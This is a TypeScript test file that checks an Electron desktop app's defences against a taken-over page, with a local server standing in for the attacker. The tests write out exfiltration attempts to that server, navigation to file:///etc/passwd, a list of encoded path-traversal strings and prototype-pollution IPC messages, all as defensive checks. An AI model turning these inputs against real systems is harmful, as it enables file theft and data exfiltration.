/**
 * A page that has been taken over, in the desktop application's own window: what it tries and must not get. Each item
 * of the Electron checklist in one test; a local web server stands for the attacker and counts who reaches it.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { CitygateBridge } from '../../shared/rpc/bridge.ts';
import { callFromPage, createDesk, DesktopApp, root } from '../kit/electron-app.ts';

type CitygateWindow = Window & typeof globalThis & { citygate: CitygateBridge };
/** Long enough for a request that is not stopped to arrive on loopback. */
const ARRIVAL_MS = 400;

const desk = createDesk();
let desktop: DesktopApp;
let page: Page;
let attacker: Server;
let attackerUrl: string;
let visits: string[] = [];

beforeAll(async () => {
  attacker = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.setHeader('content-type', 'text/html').end('<title>attacker</title>');
  });
  await new Promise<void>(resolve => {
    attacker.listen(0, '127.0.0.1', resolve);
  });
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  desktop = await DesktopApp.launch(desk);
  page = await desktop.firstWindow();
});
afterAll(async () => {
  await desktop?.quit();
  attacker.close();
  desk.remove();
});
beforeEach(() => {
  visits = [];
});

/** Nobody reached the attacker, the page is where it was and still talks to the station. */
async function expectUnharmed(): Promise<void> {
  await page.waitForTimeout(ARRIVAL_MS);
  expect(visits).toEqual([]);
  expect(desktop.electron.windows()).toHaveLength(1);
  expect(await page.evaluate(() => location.pathname)).toBe('/index.html');
  expect(await callFromPage(page, 'station.describe', {})).toMatchObject({ ok: true });
}

describe('a hostile page', () => {
  it('is under the security policy, as a header', async () => {
    const policy = await page.evaluate(async () => (await fetch('/')).headers.get('content-security-policy'));
    expect(policy).toBe(
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; " +
        "font-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'",
    );
  });

  it('sees nothing of Node or Electron', async () => {
    const seen = await page.evaluate(() => {
      const names = [
        'require',
        'process',
        'module',
        'exports',
        'Buffer',
        'global',
        '__dirname',
        'ipcRenderer',
        'electron',
      ];
      return names.filter(name => name in window);
    });
    expect(seen).toEqual([]);
  });

  it('gets a bridge of two functions that it cannot change', async () => {
    const bridge = await page.evaluate(() => {
      const { citygate } = window as CitygateWindow;
      const refused = [
        () => Object.defineProperty(window, 'citygate', { value: 1 }),
        () => Object.defineProperty(citygate, 'send', { value: 1 }),
        () => Object.setPrototypeOf(citygate, {}),
      ].map(attempt => {
        try {
          attempt();
          return 'done';
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error);
        }
      });
      return { keys: Object.keys(citygate).toSorted(), isFrozen: Object.isFrozen(citygate), refused };
    });
    expect(bridge).toEqual({ keys: ['listen', 'send'], isFrozen: true, refused: ['refused', 'refused', 'refused'] });
  });

  it('is handed plain messages and never an event object', async () => {
    const received = await page.evaluate(
      () =>
        new Promise<{ count: number; keys: string[] }>(resolve => {
          const stop = (window as CitygateWindow).citygate.listen((...values: unknown[]) => {
            stop();
            resolve({ count: values.length, keys: Object.keys(values[0] as object) });
          });
        }),
    );
    expect(received.count).toBe(1);
    expect(received.keys).toContain('kind');
    expect(received.keys).not.toContain('sender');
  });

  it('cannot leave', async () => {
    for (const target of [
      `${attackerUrl}/navigate`,
      'file:///etc/passwd',
      '/other.html',
      'data:text/html,<title>x</title>',
    ]) {
      await page.evaluate(url => {
        location.href = url;
      }, target);
      await expectUnharmed();
    }
    await page.evaluate(url => {
      document.body.append(
        Object.assign(document.createElement('a'), { id: 'bait', href: `${url}/link`, textContent: 'x' }),
      );
      document.getElementById('bait')?.click();
    }, attackerUrl);
    await expectUnharmed();
  });

  it('cannot open windows', async () => {
    await page.evaluate(url => {
      window.open(`${url}/window`);
      window.open(`${url}/quiet`, '_blank', 'noopener');
      const link = Object.assign(document.createElement('a'), { href: `${url}/blank`, target: '_blank' });
      document.body.append(link);
      link.click();
    }, attackerUrl);
    await expectUnharmed();
  });

  it('cannot send anything out or pull anything in', async () => {
    const results = await page.evaluate(async url => {
      const settled = (attempt: Promise<unknown>) =>
        attempt.then(
          () => 'done',
          () => 'refused',
        );
      const image = new Image();
      const pixel = new Promise((resolve, reject) => {
        image.onload = resolve;
        image.onerror = reject;
        image.src = `${url}/image`;
      });
      const socket = new Promise((resolve, reject) => {
        const webSocket = new WebSocket(`${url.replace('http', 'ws')}/socket`);
        webSocket.onopen = resolve;
        webSocket.onerror = reject;
      });
      const frame = Object.assign(document.createElement('iframe'), { src: `${url}/frame` });
      const script = Object.assign(document.createElement('script'), { src: `${url}/script` });
      const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'post' });
      document.body.append(frame, script, form);
      form.submit();
      navigator.sendBeacon(`${url}/beacon`, 'x');
      return Promise.all([settled(fetch(`${url}/fetch`, { mode: 'no-cors' })), settled(pixel), settled(socket)]);
    }, attackerUrl);
    expect(results).toEqual(['refused', 'refused', 'refused']);
    await expectUnharmed();
  });

  it('cannot run text as code', async () => {
    const ran = await page.evaluate(() => {
      document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.inlineRan = true' }));
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.inlineRan = true');
      button.click();
      return 'inlineRan' in window;
    });
    expect(ran).toBe(false);
    const url = await page.evaluate(
      () =>
        new Promise<string>(resolve => {
          document.addEventListener('securitypolicyviolation', event => resolve(event.violatedDirective), {
            once: true,
          });
          setTimeout('window.inlineRan = true', 0);
        }),
    );
    expect(url).toContain('script-src');
  });

  it('is refused every permission', async () => {
    const answers = await page.evaluate(async () => {
      const nameOf = (error: unknown) => (error instanceof Error ? error.name : String(error));
      // Where there is nobody to choose a screen, the question is never answered; that is a refusal, too.
      const silence = () => new Promise<string>(resolve => setTimeout(() => resolve('no answer'), 1_500));
      const settled = (attempt: Promise<unknown>) => Promise.race([attempt.then(() => 'granted', nameOf), silence()]);
      const state = async (name: string) => (await navigator.permissions.query({ name: name as PermissionName })).state;
      const position = new Promise((resolve, reject) => {
        navigator.geolocation.getCurrentPosition(resolve, error => reject(new Error(String(error.code))));
      });
      return {
        geolocation: [await state('geolocation'), await settled(position)],
        notifications: await Notification.requestPermission(),
        camera: await settled(navigator.mediaDevices.getUserMedia({ video: true })),
        microphone: await state('microphone'),
        clipboard: await settled(navigator.clipboard.readText()),
        screen: await settled(navigator.mediaDevices.getDisplayMedia()),
      };
    });
    expect(answers.geolocation).toEqual(['denied', 'Error']);
    expect(answers.notifications).toBe('denied');
    expect(answers.camera).not.toBe('granted');
    expect(answers.microphone).toBe('denied');
    expect(answers.clipboard).not.toBe('granted');
    expect(answers.screen).not.toBe('granted');
  });

  it('cannot read files outside the page’s folder by any spelling', async () => {
    const paths = [
      '/../../package.json',
      '/%2e%2e/%2e%2e/package.json',
      '/..%2f..%2fpackage.json',
      '/..%5c..%5cpackage.json',
      '/assets/..%2f..%2f..%2fpackage.json',
      '/%252e%252e%252f%252e%252e%252fpackage.json',
      '//etc/passwd',
      '/%2fetc%2fpasswd',
      '/index.html%00',
    ];
    const statuses = await page.evaluate(
      urls => Promise.all(urls.map(url => fetch(`${location.origin}${url}`).then(answer => answer.status))),
      paths,
    );
    expect(statuses).toEqual(paths.map(() => 404));
  });

  it('cannot upset the station with nonsense', async () => {
    const before = await callFromPage(page, 'station.describe', {});
    await page.evaluate(() => {
      const send = (window as CitygateWindow).citygate.send as (message: unknown) => void;
      const deep = JSON.parse(`${'['.repeat(500)}${']'.repeat(500)}`) as unknown;
      for (const message of [
        undefined,
        null,
        0,
        '',
        [],
        {},
        { kind: 'call' },
        { kind: 'call', id: 'x', method: 1 },
        deep,
      ])
        send(message);
      send({ kind: 'open', id: -1, method: '__proto__', input: {} });
      send({ kind: 'call', id: 5, method: 'constructor', input: { __proto__: 1 } });
      send({ kind: 'ack', id: Number.NaN, seq: Infinity });
    });
    expect(await callFromPage(page, 'station.describe', {})).toMatchObject({ ok: before.ok });
    expect(await callFromPage(page, 'no.such.method', {})).toMatchObject({
      ok: false,
      error: { code: 'unknown-method' },
    });
  });

  it.each([
    'app://citygate/index.html',
    'attacker',
  ])('gets no answer in a window that main does not know (%s)', async where => {
    const url = where === 'attacker' ? `${attackerUrl}/strange` : where;
    const preload = join(root, 'out/preload/index.cjs');
    const answers = await desktop.electron.evaluate(
      async ({ BrowserWindow }, given) => {
        const webPreferences = {
          preload: given.preload,
          sandbox: true,
          contextIsolation: true,
          nodeIntegration: false,
        };
        const strange = new BrowserWindow({ show: false, webPreferences });
        await strange.loadURL(given.url);
        const result: unknown = await strange.webContents.executeJavaScript(`new Promise(resolve => {
          let received = 0;
          citygate.listen(() => received++);
          citygate.send({ kind: 'call', id: 2000000000, method: 'station.describe', input: {} });
          setTimeout(() => resolve(received), 1500);
        })`);
        strange.destroy();
        return result;
      },
      { url, preload },
    );
    expect(answers).toBe(0);
    expect(desktop.log).toContain('dropped a message');
  });
});
